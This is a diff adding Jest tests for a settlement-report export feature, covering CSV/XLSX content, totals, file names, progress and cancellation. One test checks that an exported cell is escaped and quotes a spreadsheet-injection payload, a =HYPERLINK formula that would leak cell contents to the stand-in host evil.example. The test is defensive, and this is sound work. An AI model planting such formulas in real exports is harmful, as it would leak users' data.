@@ -1,0 +1,166 @@
+import { configureSession } from '@/session';
+import { fetchSettlement, fetchSettlementExport } from '@/services/settlement';
+import type { SettlementParams } from '@/services/typings';
+import { addDays, todayIn } from '@/pages/information/settlement/dateRange';
+import { settlementMatrix, settlementSheet } from '@/pages/information/settlement/export/sheetSpec';
+import { runSettlementExport, type ExportProgress } from '@/pages/information/settlement/export/runExport';
+import { ExportCancelled } from '@/pages/information/settlement/export/sheetFile';
+import { toCsv } from '@/utils/sheet';
+import { setupMockApi } from '../support/mockApi';
+import { EXPORT_LABELS, HOSTILE_NAME, renameApp, signInDemo } from './support';
+
+setupMockApi();
+
+const today = todayIn('Asia/Shanghai');
+const period = { startDate: addDays(today, -9), endDate: today };
+const ctx = {
+  startDate: period.startDate,
+  endDate: period.endDate,
+  labels: { ...EXPORT_LABELS, status: { ...EXPORT_LABELS.status }, adType: { ...EXPORT_LABELS.adType } },
+  generatedAt: '2026-03-15 12:00 (Asia/Shanghai)',
+  updatedAt: '2026-03-15 11:00 (Asia/Shanghai)',
+};
+
+beforeEach(async () => {
+  localStorage.clear();
+  localStorage.setItem('umi_locale', 'en-US');
+  configureSession({ navigate: jest.fn(), notify: jest.fn(), currentPath: () => '/information/settlement' });
+  await signInDemo();
+});
+
+describe('settlement export file', () => {
+  it('holds every row of the filtered range, the preamble, the server columns and the totals line', async () => {
+    const params: SettlementParams = { ...period, groupBy: ['day', 'adPosition'], appIds: [1001, 1002] };
+    const [result, firstPage] = await Promise.all([
+      fetchSettlementExport({ ...params, current: 2, pageSize: 10 }),
+      fetchSettlement({ ...params, current: 1, pageSize: 10 }),
+    ]);
+    // 10 days × 10 ad positions of two apps: not just one page.
+    expect(result.rows).toHaveLength(firstPage.total);
+    expect(firstPage.total).toBe(100);
+
+    const { matrix, headerRow, numberFormats } = settlementMatrix(result, ctx);
+    expect(matrix.slice(0, headerRow)).toEqual([
+      ['Settlement report'],
+      ['Period', `${period.startDate} – ${period.endDate}`],
+      ['Time zone', 'Asia/Shanghai'],
+      ['Currency', 'USD'],
+      ['Generated at', '2026-03-15 12:00 (Asia/Shanghai)'],
+      ['Data updated at', '2026-03-15 11:00 (Asia/Shanghai)'],
+      [],
+    ]);
+    expect(matrix[headerRow]).toEqual([
+      'Date',
+      'Status',
+      'App',
+      'Ad position',
+      'Ad type',
+      'Requests',
+      'Fills',
+      'Fill rate',
+      'Impressions',
+      'Show rate',
+      'Clicks',
+      'CTR',
+      'eCPM',
+      'Revenue',
+    ]);
+    const body = matrix.slice(headerRow + 1, -1);
+    expect(body).toHaveLength(100);
+    // Oldest day first (the export's default order), with the status by name and numbers as numbers.
+    const first = result.rows[0];
+    expect(body[0]).toEqual([
+      first.date,
+      first.status === 'final' ? 'Final' : 'Estimated',
+      first.appName,
+      first.adPositionName,
+      EXPORT_LABELS.adType[first.adType!],
+      first.requests,
+      first.fills,
+      first.fillRate,
+      first.impressions,
+      first.showRate,
+      first.clicks,
+      first.ctr,
+      first.ecpm,
+      first.revenue,
+    ]);
+    expect(body.at(-1)?.[1]).toBe('Estimated');
+    expect(body[0][1]).toBe('Final');
+
+    const totals = matrix.at(-1)!;
+    const t = result.totals;
+    expect(totals).toEqual(['Total', '', '', '', '', t.requests, t.fills, t.fillRate, t.impressions, t.showRate, t.clicks, t.ctr, t.ecpm, t.revenue]);
+    expect(t.requests).toBe(result.rows.reduce((s, r) => s + r.requests, 0));
+
+    expect(numberFormats).toEqual([null, null, null, null, null, '#,##0', '#,##0', '0.00%', '#,##0', '0.00%', '#,##0', '0.00%', '#,##0.00', '#,##0.00']);
+  });
+
+  it('escapes a hostile app name so no spreadsheet runs it, and keeps markup as plain text', async () => {
+    await renameApp(1001, HOSTILE_NAME);
+    const result = await fetchSettlementExport({ ...period, groupBy: ['app'], sortField: 'appName', sortOrder: 'ascend' });
+    const { matrix } = settlementMatrix(result, ctx);
+    const names = matrix.map((line) => line[0]);
+    expect(names).toContain(`'${HOSTILE_NAME}`);
+    expect(names).not.toContain(HOSTILE_NAME);
+    expect(names).toContain('Tap & Match <b>Puzzle</b>');
+    const csv = toCsv(matrix);
+    expect(csv).toContain(`"'=HYPERLINK(""https://evil.example/?leak=""&A1,""Click"")"`);
+    expect(csv.split('\r\n').some((line) => line.startsWith('='))).toBe(false);
+  });
+
+  it('uses the file name of the server without its extension, and only the grouping columns', async () => {
+    const result = await fetchSettlementExport({ ...period, groupBy: ['app'] });
+    const spec = settlementSheet(result, ctx);
+    expect(spec.fileName).toBe(`settlement_${period.startDate}_${period.endDate}`);
+    expect(spec.columns.map((c) => c.key).slice(0, 2)).toEqual(['appName', 'requests']);
+    expect(spec.footer?.[0][0]).toBe('Total');
+  });
+});
+
+describe('running an export', () => {
+  let saved: { name: string; blob: Blob }[];
+  let restore: () => void;
+  beforeEach(() => {
+    saved = [];
+    const blobs = new Map<string, Blob>();
+    const create = jest.fn((blob: Blob) => {
+      const url = `blob:test/${blobs.size}`;
+      blobs.set(url, blob);
+      return url;
+    });
+    Object.assign(URL, { createObjectURL: create, revokeObjectURL: jest.fn() });
+    const click = jest.spyOn(HTMLAnchorElement.prototype, 'click').mockImplementation(function (this: HTMLAnchorElement) {
+      saved.push({ name: this.download, blob: blobs.get(this.href) as Blob });
+    });
+    restore = () => click.mockRestore();
+  });
+  afterEach(() => restore());
+
+  it('fetches the whole range, reports its stages and saves a CSV named after the period', async () => {
+    const progress: ExportProgress[] = [];
+    const outcome = await runSettlementExport(
+      { ...period, groupBy: ['day'], current: 3, pageSize: 10 },
+      { format: 'csv', labels: ctx.labels, locale: 'en-US', onProgress: (p) => progress.push(p), now: () => Date.UTC(2026, 2, 15, 4) },
+    );
+    expect(outcome).toEqual({ fileName: `settlement_${period.startDate}_${period.endDate}.csv`, rows: 10, usedWorker: false });
+    expect(progress.map((p) => p.stage)).toEqual(['fetch', 'build', 'build', 'save']);
+    expect(progress.at(-1)?.percent).toBe(100);
+    expect(saved).toHaveLength(1);
+    expect(saved[0].name).toBe(outcome.fileName);
+    const text = await saved[0].blob.text();
+    const lines = text.replace(/^\ufeff/, '').trimEnd().split('\r\n');
+    // Preamble (7 lines), header, 10 days, totals.
+    expect(lines).toHaveLength(7 + 1 + 10 + 1);
+    expect(lines[4]).toBe('Generated at,"03/15/2026, 12:00 (Asia/Shanghai)"');
+    expect(lines.at(-1)?.startsWith('Total,,')).toBe(true);
+  });
+
+  it('stops without saving when cancelled', async () => {
+    const controller = new AbortController();
+    const pending = runSettlementExport({ ...period, groupBy: ['day'] }, { format: 'xlsx', labels: ctx.labels, signal: controller.signal });
+    controller.abort();
+    await expect(pending).rejects.toBeInstanceOf(ExportCancelled);
+    expect(saved).toHaveLength(0);
+  });
+});
